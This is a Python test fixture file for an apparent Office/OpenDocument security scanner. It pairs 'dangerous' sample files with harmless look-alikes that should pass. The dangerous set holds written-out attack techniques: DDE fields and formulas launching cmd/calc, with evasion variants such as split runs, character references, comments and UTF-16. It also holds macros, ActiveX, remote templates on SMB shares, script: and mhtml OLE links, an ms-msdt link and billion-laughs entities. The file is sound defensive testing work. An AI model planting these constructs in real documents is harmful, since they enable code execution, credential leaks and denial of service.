"""Documents of Office and OpenOffice that do more than be read, and honest ones that look a little like them."""

import io
from collections.abc import Callable
from typing import Final

import docx as python_docx
import openpyxl
from openpyxl.chart import BarChart, Reference

from tests.corpus.files.case import FileCase
from tests.inspection.office_files import (
    XML,
    W,
    content,
    docx,
    field,
    odt,
    pptx,
    relationship,
    relationships,
    xlsx,
)  # fmt: skip

_LAUGHS: Final = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_LINK: Final = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
_VBA: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
_FRAME: Final = '<draw:floating-frame xlink:href="http://a.example/"/>'
_FORMER: Final = '<!DOCTYPE m PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><m/>'
_EXTERNAL_DOCTYPE: Final = '<!DOCTYPE w SYSTEM "http://a.example/a.dtd"><w/>'


def _case(name: str, data: bytes, *reasons: str) -> FileCase:
    return FileCase(name, lambda: data, frozenset(f"office_{reason}" for reason in reasons))


def _made(name: str, data: Callable[[], bytes]) -> FileCase:
    return FileCase(name, data, frozenset())


def _override(part: str, kind: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{kind}"/>'


def _remote(name: str, kind: str, target: str) -> FileCase:
    return _case(name, docx(rels=relationship(kind, target)), "remote")


def _simple(code: str) -> str:
    return f'<w:fldSimple w:instr="{code}"><w:r><w:t>1</w:t></w:r></w:fldSimple>'


_VBA_TYPE: Final = "application/vnd.ms-office.vbaProject"
_XLM_TYPE: Final = "application/vnd.ms-excel.macrosheet+xml"
_DANGEROUS: Final = (
    _case("macros.docx", docx(word__vbaProject_dot_bin=_VBA), "macros"),
    _case(
        "macros-called-otherwise.docx",
        docx(overrides=_override("word/a.bin", _VBA_TYPE), word__a_dot_bin=b"x"),
        "macros",
    ),
    _case("macros-related.docx", docx(rels=relationship("vbaProject", "a.bin", external=False)), "macros"),
    _case("macro-sheet.xlsx", xlsx(xl__macrosheets__sheet1_dot_xml="<a/>"), "macros"),
    _case(
        "macro-sheet-called-otherwise.xlsx", xlsx(overrides=_override("xl/worksheets/sheet1.xml", _XLM_TYPE)), "macros"
    ),
    _case("macro-sheet-related.xlsx", xlsx(rels=relationship("xlMacrosheet", "a.xml", external=False)), "macros"),
    _case("macro-click.pptx", pptx('<a:hlinkClick action="ppaction://macro?name=A"/>'), "macros"),
    _case("activex.docx", docx(word__activeX__activeX1_dot_xml="<a/>"), "activex"),
    _case("activex-related.docx", docx(rels=relationship("control", "a.xml", external=False)), "activex"),
    _case("dde.docx", docx(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ")), "dde"),
    _case("dde-in-many-runs.docx", docx(field("D", "DE", "AU", "TO cmd /k calc")), "dde"),
    _case("dde-in-references.docx", docx(field("&#68;D&#x45; cmd &quot;/k calc&quot;")), "dde"),
    _case(
        "dde-in-numbers.docx",
        docx(field(f"</w:instrText></w:r>{field('QUOTE 68 68 69')}<w:r><w:instrText> cmd /k")),
        "dde",
    ),
    _case("dde-simple.docx", docx(_simple("DDE cmd a")), "dde"),
    _case("dde-in-lower-case.docx", docx(field(" ddeauto cmd a")), "dde"),
    _case(
        "dde-without-an-end.docx",
        docx('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText></w:r>'),
        "dde",
    ),
    _case(
        "dde-in-utf-16.docx",
        docx(word__header1_dot_xml=f"<w:hdr {W}>{field('DDE cmd')}</w:hdr>".encode("utf-16")),
        "dde",
    ),
    _case("dde-in-a-footer.docx", docx(word__footer1_dot_xml=f"<w:ftr {W}>{field('DDE cmd')}</w:ftr>"), "dde"),
    _case("dde-link.xlsx", xlsx(xl__externalLinks__externalLink1_dot_xml=XML + _LINK), "dde"),
    _case("dde-formula.xlsx", xlsx("<c><f>cmd|'/c calc'!A0</f></c>"), "dde"),
    _case("dde-formula-behind-a-comment.xlsx", xlsx("<c><f>cm<!-- -->d|'/c calc'!A0</f></c>"), "dde"),
    _case("dde-formula-behind-an-instruction.xlsx", xlsx("<c><f>cm<?a?>d|'/c calc'!A0</f></c>"), "dde"),
    _case("dde-formula-in-a-section.xlsx", xlsx("<c><f><![CDATA[cmd|'/c calc'!A0]]></f></c>"), "dde"),
    _case(
        "dde-formula-under-a-prefix.xlsx",
        xlsx("<c><é:f xmlns:é='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>cmd|'/c calc'!A0</é:f></c>"),
        "dde",
    ),
    _case("dde-formula-in-references.xlsx", xlsx("<c><f>cmd&#124;'/c calc'!A0</f></c>"), "dde"),
    _remote("template.docx", "attachedTemplate", "https://a.example/a.dotm"),
    _remote("template-on-a-share.docx", "attachedTemplate", "file://///10.0.0.1/share/a.dotm"),
    _remote("template-on-another-share.docx", "attachedTemplate", "\\\\10.0.0.1\\share\\a.dotm"),
    _case(
        "template-beside-others.docx",
        docx(
            word___rels__settings_dot_xml_dot_rels=relationships(
                relationship("attachedTemplate", "https://a.example/a")
            ),
            word___rels__Settings_dot_xml_dot_rels=relationships(),
        ),
        "remote",
    ),
    _remote("frame.docx", "frame", "http://a.example/"),
    _remote("object.docx", "oleObject", "mhtml:http://a.example/a.html!x-usc:http://a.example/a.html"),
    _remote("script.docx", "oleObject", "script:http://a.example/a.sct"),
    _remote("chunk.docx", "aFChunk", "http://a.example/a.rtf"),
    _remote("picture-on-a-share.docx", "image", "file://10.0.0.1/share/a.png"),
    _remote("link-that-runs.docx", "hyperlink", "ms-msdt:/id PCWDiagnostic"),
    _case("read-elsewhere.docx", docx(field('INCLUDETEXT "http://a.example/a.docx"')), "remote"),
    _case("program-click.pptx", pptx('<a:hlinkClick action="ppaction://program"/>'), "program"),
    _case("program-within.docx", docx(word__media__image1_dot_png=b"MZ" + bytes(200)), "program"),
    _case("laughs.docx", docx(word__settings_dot_xml=_LAUGHS + "<a>&b;</a>"), "doctype"),
    _case("laughs-in-utf-16.docx", docx(word__settings_dot_xml=(_LAUGHS + "<a>&b;</a>").encode("utf-16")), "doctype"),
    _case("laughs-behind-comments.docx", docx(customXml__item1_dot_xml=f"<!--{'x' * 9000}-->{_LAUGHS}<a/>"), "doctype"),
    _case("document-type.xlsx", xlsx(xl__sharedStrings_dot_xml=_EXTERNAL_DOCTYPE), "doctype"),
    _case("document-type-in-relationships.pptx", pptx(_rels__a_dot_rels=_LAUGHS + "<a/>"), "doctype"),
    _case("basic.odt", odt(Basic__Standard__Module1_dot_xml="<a/>"), "macros"),
    _case("python.odt", odt(Scripts__python__a_dot_py="import os"), "macros"),
    _case(
        "listener.odt",
        odt('<script:event-listener xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>'),
        "macros",
    ),
    _case("macro-link.odt", odt('<text:a xlink:href="macro:///Standard.A.B()">x</text:a>'), "macros"),
    _case("dde.odt", odt('<office:dde-source office:dde-application="cmd"/>'), "dde"),
    _case(
        "dde-formula.ods",
        odt('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;A1)"/>', kind="spreadsheet"),
        "dde",
    ),
    _case("frame.odt", odt('<draw:floating-frame xlink:href="http://a.example/"/>'), "remote"),
    _case("section.odt", odt('<text:section-source xlink:href="http://a.example/a.odt"/>'), "remote"),
    _case("object.odt", odt('<draw:object-ole xlink:href="file://10.0.0.1/share/a"/>'), "remote"),
    _case("basic-in-what-is-called-text.odt", odt(mimetype="text/plain", Basic__A__B_dot_xml="<a/>"), "macros"),
    _case("basic-beside-content-types.odt", odt(**{"[Content_Types].xml": "", "Basic__A__B_dot_xml": ""}), "macros"),
    _case("basic.sxw", odt(mimetype="application/vnd.sun.xml.writer", Basic__A__B_dot_xml="<a/>"), "macros"),
    _case("frame-beside-other-content.odt", odt(_FRAME, Content_dot_xml=content("")), "remote"),
    _case("frame-in-other-content.odt", odt(Content_dot_xml=content(_FRAME)), "remote"),
    _case("laughs.odt", odt(styles_dot_xml=_LAUGHS + "<a>&b;</a>"), "doctype"),
    _case(
        "encrypted.odt",
        odt(manifest="<manifest:encryption-data/>", content_dot_xml=b"\x93\x11\x05" * 90),
        "not_examined",
    ),
    _case(
        "basic.fodt", content('<script:module script:name="A">Sub Main</script:module>', "document").encode(), "macros"
    ),
)


def _report() -> bytes:
    out, file = io.BytesIO(), python_docx.Document()
    file.add_heading("How DDEAUTO, vbaProject.bin and <!DOCTYPE work", 0)
    for number in range(20):
        file.add_paragraph(f"Paragraph {number}: DDE cmd '/c calc' is text here; so is =cmd|'/C calc'!A0.")
    file.add_table(3, 4).cell(0, 0).text = "x"
    file.save(out)
    return out.getvalue()


def _workbook() -> bytes:
    out, book = io.BytesIO(), openpyxl.Workbook()
    sheet = book.active
    for number in range(200):
        sheet.append(
            [number, f"=A{number + 1}*2", "a | b ! c", "-1", "+49 30 123", '=HYPERLINK("https://example.com")']
        )
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=9))
    sheet.add_chart(chart, "H2")
    sheet["G1"].hyperlink = "https://example.com/"
    book.save(out)
    return out.getvalue()


def _related(*each: str) -> bytes:
    return docx(rels="".join(each))


_HONEST: Final = (
    _made("report.docx", _report),
    _made("workbook.xlsx", _workbook),
    _case("plain.docx", docx()),
    _case("plain.xlsx", xlsx()),
    _case("plain.pptx", pptx()),
    _case("plain.odt", odt("<text:p>DDE, macro and &lt;!DOCTYPE are words here</text:p>")),
    _case(
        "links.docx",
        _related(
            relationship("hyperlink", "https://example.com/?a=b"), relationship("hyperlink", "mailto:a@example.com")
        ),
    ),
    _case("link-to-a-share.docx", _related(relationship("hyperlink", "file:///\\\\server\\share\\a.docx"))),
    _case("linked-picture.docx", _related(relationship("image", "https://example.com/a.png"))),
    _case("linked-local-picture.docx", _related(relationship("image", "file:///C:\\Users\\a\\a.png"))),
    _case(
        "own-template.docx",
        docx(
            word___rels__settings_dot_xml_dot_rels=relationships(
                relationship("attachedTemplate", "file:///C:\\A%20B\\Letter.dotx")
            )
        ),
    ),
    _case("template-beside.docx", _related(relationship("attachedTemplate", "Letter.dotx"))),
    _case(
        "fields.docx",
        docx(field(" PAGE ") + field(' HYPERLINK "https://example.com" ') + field(" TOC \\o ", "1-3") + field(" DDEX")),
    ),
    _case("field-with-a-local-link.docx", docx(field(' LINK Excel.Sheet.12 "C:\\\\Users\\\\a.xlsx" "A!R1" \\a \\f 5'))),
    _case(
        "linked-workbook.xlsx",
        xlsx(
            xl__externalLinks___rels__a_dot_xml_dot_rels=relationships(
                relationship("externalLinkPath", "https://example.com/a.xlsx")
            )
        ),
    ),
    _case("formulas.xlsx", xlsx('<c><f>IF(A1&lt;2,"a|b!c",SUM(B1:B9))</f></c><c><f>[1]A!B1</f></c>')),
    _case("linked-film.pptx", pptx(rels=relationship("video", "https://example.com/a.mp4"))),
    _case("buttons.pptx", pptx('<a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/>')),
    _case("custom-xml-in-utf-16.docx", docx(customXml__item1_dot_xml="<a>b</a>".encode("utf-16"))),
    _case("chart.docx", docx(word__embeddings__Microsoft_Excel_Sheet1_dot_xlsx=xlsx())),
    _case(
        "empty-library.odt", odt(**{"Basic__Standard__script-lb_dot_xml": "<a/>", "Basic__script-lc_dot_xml": "<a/>"})
    ),
    _case("object.odt", odt('<draw:object xlink:href="./Object 1" xlink:type="simple"/><office:scripts/>')),
    _case(
        "links.odt",
        odt('<text:a xlink:href="https://example.com/">x</text:a><draw:image xlink:href="https://example.com/a.png"/>'),
    ),
    _case("former-manifest.odt", odt(**{"META-INF__manifest_dot_xml": _FORMER})),
    _case("flat.fodt", content("<text:p>flat</text:p>", "document").encode()),
)
CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
